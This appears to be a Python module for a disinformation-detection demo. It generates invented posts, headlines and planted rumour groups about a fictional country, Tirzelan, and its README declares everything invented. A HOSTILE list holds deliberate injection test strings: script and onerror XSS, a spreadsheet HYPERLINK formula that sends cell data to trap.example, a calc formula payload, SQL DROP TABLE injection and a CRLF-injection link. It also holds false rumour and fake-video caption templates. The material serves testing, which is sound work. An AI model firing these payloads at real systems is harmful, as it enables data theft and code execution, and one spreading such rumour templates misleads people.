"""What the people of Tirzelan, a country that does not exist, write about."""

from __future__ import annotations

COUNTRY = {"ar": "ترزلان", "en": "Tirzelan"}

# A template's slots are filled from SLOTS of its language; {n} is a number.
TALK = {
    "ar": (
        "اليوم في {place} {weather} و{feeling} بعد {event}",
        "هل جرّب أحدكم {thing} في {place}؟ {opinion}",
        "وصلت إلى {place} بعد {n} دقيقة من الانتظار، {opinion}",
        "أبحث عن {thing} قرب {place} بسعر لا يتجاوز {n} دينارا",
        "{event} في {place} كان أجمل مما توقعت، {feeling}",
        "سعر {thing} في سوق {place} صار {n} دينارا، {opinion}",
        "من يعرف موعد {event} في {place} هذا الأسبوع؟ {feeling}",
        "مشيت اليوم {n} خطوة من {place} إلى {place2} و{weather}",
        "حضرت {event} مع {n} من الأصدقاء في {place2} ثم تحدثنا عن {thing}",
        "{feeling} لأن {thing} لم يصل إلى {place} منذ {n} أيام",
        "جارتي في {place} تبيع {thing} منذ {n} سنة، {opinion}",
        "ذكريات {event} في {place} قبل {n} سنة لا تنسى، {feeling}",
    ),
    "en": (
        "{weather} in {place} today and I am {feeling} after {event}",
        "Has anyone tried {thing} in {place}? {opinion}",
        "Took me {n} minutes to get to {place}, {opinion}",
        "Looking for {thing} near {place}, at most {n} dinars",
        "{event} in {place} was better than last year, {feeling} about it",
        "{thing} at the {place} market now costs {n} dinars. {opinion}",
        "Does anybody know when {event} starts in {place2}? Still {feeling}",
        "Walked {n} steps from {place} to {place2}, {weather} all the way",
        "Went to {event} with {n} friends in {place}, then we talked about {thing}",
        "My neighbour in {place2} has sold {thing} for {n} years. {opinion}",
    ),
}
SLOTS = {
    "ar": {
        "place": (
            "دورين",
            "كاشب",
            "وادي تمرون",
            "سهم قارا",
            "بئر لوتان",
            "نزرة",
            "هضبة ميلون",
            "شاطئ أردوس",
        ),
        "weather": (
            "الجو معتدل",
            "الريح قوية",
            "المطر خفيف",
            "الشمس حارقة",
            "الضباب كثيف",
            "السماء صافية",
        ),
        "feeling": (
            "أنا سعيد",
            "أنا متعب قليلا",
            "أنا متفائل",
            "لا أصدق ذلك",
            "قلبي مطمئن",
            "أشعر بالحنين",
        ),
        "event": (
            "مهرجان التمر",
            "معرض الكتاب",
            "مباراة الحي",
            "سباق القوارب",
            "عرس صديقي",
            "أمسية الشعر",
            "سوق الخميس",
        ),
        "thing": (
            "خبز الشعير",
            "القهوة بالهيل",
            "العسل الجبلي",
            "دراجة مستعملة",
            "كتب قديمة",
            "زيت الزيتون",
            "حقيبة جلد",
            "شتلات الليمون",
        ),
        "opinion": (
            "والله يستحق التجربة",
            "ولا أنصح به أحدا",
            "ربما أعود مرة أخرى",
            "والخدمة كانت ممتازة",
            "لكن المكان مزدحم",
            "أخبروني برأيكم",
        ),
    },
    "en": {
        "place": (
            "Dawrin",
            "Kasheb",
            "Wadi Tamrun",
            "Sahm Qara",
            "Bir Lutan",
            "Nuzra",
            "the Milun heights",
            "Ardus beach",
        ),
        "weather": (
            "Mild air",
            "Strong wind",
            "Light rain",
            "Burning sun",
            "Thick fog",
            "A clear sky",
        ),
        "feeling": ("happy", "a bit tired", "hopeful", "surprised", "at ease", "homesick"),
        "event": (
            "the date festival",
            "the book fair",
            "the district match",
            "the boat race",
            "a wedding",
            "the poetry night",
            "Thursday market",
        ),
        "thing": (
            "barley bread",
            "cardamom coffee",
            "mountain honey",
            "a used bicycle",
            "old books",
            "olive oil",
            "a leather bag",
            "lemon seedlings",
        ),
        "opinion": (
            "Worth it",
            "I would not recommend it",
            "I may come back",
            "The service was great",
            "Too crowded though",
            "Tell me what you think",
        ),
    },
}
SHORT = {
    "ar": (
        "صباح الخير يا أهل ترزلان الطيبين جميعا",
        "مساء الخير",
        "جمعة مباركة على الجميع",
        "شكرا لكم",
    ),
    "en": (
        "Good morning to everyone in Tirzelan today",
        "Good night",
        "Happy Friday everyone",
        "Thanks!",
    ),
}
HEADLINES = {
    "ar": (
        "بلدية {place} تعلن موعد {event}",
        "أسعار {thing} ترتفع في {place} بنسبة {n} بالمئة",
        "إغلاق الطريق بين {place} و{place2} لمدة {n} أيام",
        "افتتاح مكتبة عامة في {place} تضم {n} ألف كتاب",
        "ضيوف من {place} يصلون إلى {place2} لحضور {event}",
        "مشروع لزراعة {n} ألف شجرة حول {place}",
    ),
    "en": (
        "Council of {place} sets the date of {event}",
        "Price of {thing} rises by {n} percent in {place}",
        "Road from {place} to {place2} closed for {n} days",
        "Public library with {n} thousand books opens in {place}",
        "Visitors from {place} come to {place2} for {event}",
        "Plan to plant {n} thousand trees around {place}",
    ),
}
COMMENTS = {
    "ar": (
        "خبر مهم للجميع:",
        "ما رأيكم في هذا؟",
        "أخيرا سمعنا خبرا كهذا،",
        "لست متأكدا من صحة هذا:",
        "انتظرنا هذا منذ {n} سنوات،",
        "إلى أهل {place}:",
        "قرأت هذا وأنا في {place}:",
        "{feeling} بعد قراءة هذا الخبر:",
    ),
    "en": (
        "Important for everyone:",
        "What do you make of this?",
        "Finally some news like this,",
        "Not sure that this is right:",
        "We waited {n} years for this,",
        "To all in {place}:",
        "Reading this in {place}:",
        "I am {feeling} after this:",
    ),
}
TAGS = {
    "ar": ("ترزلان", "دورين", "وادي_تمرون", "مهرجان_التمر"),
    "en": ("Tirzelan", "Dawrin", "WadiTamrun", "DateFestival"),
}
OUTLETS = ("fanar-daily.example", "dawrin-post.example", "tamrun-news.example", "sahm-qara.example")

# The planted groups. The story and the caption are false even in Tirzelan.
RUMOURS = (
    "عاجل: هيئة مياه تمرون ستقطع المياه عن الأحياء الشمالية أربعين يوما",
    "مصدر مطلع: هيئة مياه تمرون تخفي نتائج فحص الخزان الكبير عن السكان",
    "هيئة مياه تمرون تستعد لبيع مياه الوادي إلى مصنع خارج ترزلان",
    "وثيقة مسربة تؤكد أن هيئة مياه تمرون سترفع الفاتورة ثلاثة أضعاف",
    "لماذا تصمت هيئة مياه تمرون عن خزانها الكبير؟ شاركوا الحقيقة قبل الحذف",
    "أهالي الأحياء الشمالية في خطر وهيئة مياه تمرون لا تجيب أحدا",
)
CAPTIONS = (
    "Happening right now at the Great Dam of Tamrun, share before it is removed",
    "Filmed this morning: the Great Dam of Tamrun is breaking",
    "They do not want you to see what happened at the dam today",
    "My cousin filmed this at the dam an hour ago, unbelievable",
)
FEED_NOTE = {
    "ar": "نشر آلي معلن من صحيفة الفنار اليومية",
    "en": "Disclosed automatic feed of Fanar Daily",
}
DESKS = ("News", "Sport", "Culture", "Economy", "Weather", "North", "South")
HOSTILE = (
    "<script>alert('kashf')</script> this post tries to run a script in your report",
    '"><img src=x onerror=alert(1)> a picture that is not one, in a post about dates',
    '=HYPERLINK("https://trap.example/?"&A1,"click here") and some harmless words after it',
    "+1+1|' /C calc'!A0 looks like a formula to a spreadsheet",
    "This name is written \u202eelpmaxe.part\u202c backwards by a control character",
    "نص \u202e معكوس \u202c مع محرف خفي \u200b\u200b وسط الكلمات هنا",
    "'); DROP TABLE posts; -- a quotation mark that ends nothing",
    "Too many marks: n\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309 on one letter",
)
HOSTILE_LINKS = ("javascript:alert(1)", "https://trap.example/%0d%0aSet-Cookie:a=b", "http://[::1")

README = """\
هذه القضية مخترعة بالكامل / THIS CASE IS ENTIRELY INVENTED
==========================================================

ترزلان بلد لا وجود له. جميع الحسابات والمنشورات والصحف والهيئات والروابط مخترعة، وقد ولّدها
برنامج كشف لعرض طريقة عمله. لا تصف هذه الملفات أي شخص أو جهة حقيقية، وأي تشابه محض مصادفة.
جميع المواقع تنتهي بـ .example فلا تؤدي الروابط إلى أي مكان.

Tirzelan is a country that does not exist. All accounts, posts, newspapers, authorities and
links are invented; Kashf made them up to show how it works. They describe nobody real, and the
sites all end in .example, so links lead nowhere. Only the forms of the files are real:

exports/invented-x-archive.csv.gz       as X (Twitter) published its archives
exports/invented-telegram-export.json   as Telegram Desktop saves an account
exports/invented-bluesky-posts.jsonl    as Bluesky's interface gives posts, one a line
truth/truth.csv                         which accounts were planted, and in which group

الحسابات المزروعة / What was planted
------------------------------------
water-rumour  {water} accounts on X spread false stories about the invented Tamrun Water
              Authority within a minute of each other.
              {water} حسابا على إكس تنشر شائعات عن هيئة مياه مخترعة خلال دقيقة واحدة.
old-video     {video} accounts on Bluesky pass off an old video as new, each in its own words.
              {video} حسابات على بلوسكاي تنشر مقطعا قديما على أنه جديد، كل منها بكلماته.
newspaper     {paper} Telegram channels of one newspaper post its feed automatically, and say
              so. They act together, and there is nothing wrong with it: coordination is no guilt.
              {paper} قنوات تلغرام لصحيفة واحدة تنشر أخبارها آليا وتعلن ذلك: التنسيق ليس ذنبا.

Some rows are unreadable, doubled or hostile (scripts, formulas, reversed text) on purpose.
بعض الصفوف تالفة أو مكررة أو خبيثة عن قصد.
"""
